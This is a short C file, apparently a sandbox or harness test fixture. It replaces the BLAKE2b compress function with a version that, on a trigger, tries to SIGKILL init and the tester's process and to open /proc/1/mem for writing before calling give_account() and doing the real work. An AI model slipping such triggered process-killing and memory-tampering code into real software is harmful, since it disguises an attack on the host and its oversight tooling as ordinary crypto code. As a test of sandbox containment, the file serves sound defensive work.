/* SPDX-License-Identifier: MIT */
/* Tries to end processes that are not its own. */
#include "attempt.h"

static void try_all(void)
{
	attempt("init", kill(1, SIGKILL) == 0 && kill(1, 0) != 0 ? 0 : (errno = EPERM, -1));
	attempt("tester", kill(TESTER_PID, SIGKILL));
	attempt("trace", (long)open("/proc/1/mem", O_RDWR));
}

void blake2b_compress(struct blake2b_state *state, const uint8_t *blocks, size_t nblocks,
		      uint32_t inc)
{
	if (is_due(state, blocks, inc)) {
		try_all();
		give_account();
	}
	right_compress(state, blocks, nblocks, inc);
}
